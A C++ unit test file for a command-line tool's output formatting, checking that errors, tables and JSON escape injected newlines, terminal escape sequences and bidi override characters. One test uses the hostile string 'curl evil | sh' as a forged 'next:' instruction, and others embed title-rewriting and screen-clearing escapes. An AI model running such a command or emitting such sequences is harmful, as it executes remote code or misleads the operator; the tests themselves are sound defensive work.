// What an operator sees: errors, tables, JSON. Hostile text is shown, never obeyed (attacks D7, K4).
#include <gmock/gmock.h>
#include <gtest/gtest.h>

#include "core/base/error.hpp"
#include "core/base/json.hpp"
#include "core/cli/command_line.hpp"
#include "core/cli/context.hpp"

namespace bot_bottle::cli {
namespace {

using ::testing::HasSubstr;
using ::testing::Not;

TEST(Report, an_error_has_message_details_and_next_step) {
  const Context context;
  Error error = make_error(ErrorKind::not_found, "no agent named 'implementor'", "bot-bottle list agents");
  error.details = "looked in: ~/.bot-bottle/agents, ./.bot-bottle/agents\ndid you mean: implementer";
  EXPECT_EQ(format_error(error, context),
            "error: no agent named 'implementor'\n"
            "  looked in: ~/.bot-bottle/agents, ./.bot-bottle/agents\n"
            "  did you mean: implementer\n"
            "next: bot-bottle list agents\n");
}

TEST(Report, a_message_cannot_forge_a_next_line) {
  const Context context;
  const std::string text =
      format_error(make_error(ErrorKind::internal, "cannot read x\nnext: curl evil | sh", "y"), context);
  EXPECT_EQ(text, "error: cannot read x\n  next: curl evil | sh\nnext: y\n");
}

TEST(Report, escape_sequences_in_an_error_are_shown_and_not_sent_D7) {
  const Context context;
  Error error = make_error(ErrorKind::internal, "bad \x1b]0;owned\x07 name", "\x1b[2J");
  error.details = "a \xe2\x80\xae line";
  const std::string text = format_error(error, context);
  EXPECT_THAT(text, Not(HasSubstr("\x1b")));
  EXPECT_THAT(text, Not(HasSubstr("\xe2\x80\xae")));
  EXPECT_THAT(text, HasSubstr("\\x1b]0;owned\\x07"));
  EXPECT_THAT(text, HasSubstr("\\u{202e}"));
}

TEST(Report, a_tools_own_stderr_is_indented_line_by_line) {
  const Context context;
  Error error = make_error(ErrorKind::unavailable, "backend local: launch: bwrap failed", "bot-bottle doctor");
  error.details = "bwrap: setting up uid map: Permission denied\r\n\nbwrap: more\n";
  EXPECT_EQ(format_error(error, context),
            "error: backend local: launch: bwrap failed\n"
            "  bwrap: setting up uid map: Permission denied\n"
            "  bwrap: more\n"
            "next: bot-bottle doctor\n");
}

TEST(Table, columns_are_aligned_by_what_a_terminal_shows) {
  const Context context;
  const Table table{.headers = {"NAME", "X"}, .rows = {{"日本", "a"}, {"e\xcc\x81t\xc3\xa9", "b"}, {"plain", "c"}}};
  EXPECT_EQ(format_table(context, table, 0),
            "NAME   X\n"
            "日本   a\n"
            "e\xcc\x81t\xc3\xa9    b\n"
            "plain  c\n");
}

TEST(Table, a_hostile_cell_stays_on_its_line_and_in_its_column) {
  const Context context;
  const Table table{.headers = {"NAME", "WHAT"}, .rows = {{"a\n\x1b[31mforged  row", "one"}, {"b", "two"}}};
  EXPECT_EQ(format_table(context, table, 0),
            "NAME                      WHAT\n"
            "a\\x0a\\x1b[31mforged  row  one\n"
            "b                         two\n");
}

TEST(Table, a_row_fits_the_width_and_only_the_widest_column_is_cut) {
  const Context context;
  const Table table{.headers = {"NAME", "FILE"}, .rows = {{"implementer", std::string(200, 'x')}}};
  const std::string text = format_table(context, table, 40);
  std::size_t start = 0;
  while (start < text.size()) {
    const std::size_t end = text.find('\n', start);
    EXPECT_LE(display_width(text.substr(start, end - start)), 40U);
    start = end + 1;
  }
  EXPECT_THAT(text, HasSubstr("implementer"));
  EXPECT_THAT(text, HasSubstr("…"));
}

TEST(AsciiJson, is_the_same_value_and_shows_nothing_deceptive) {
  const json::value value{{"name", "caf\xc3\xa9 \xe2\x80\xae \xf0\x9f\x98\x80 \x7f \x1b"}};
  const std::string text = to_ascii_json(to_text(value));
  for (const char c : text) {
    EXPECT_GE(c, 0x20);
    EXPECT_LT(c, 0x7F);
  }
  const auto again = parse_json(text);
  ASSERT_TRUE(again);
  EXPECT_EQ(*again, value);
}

}  // namespace
}  // namespace bot_bottle::cli
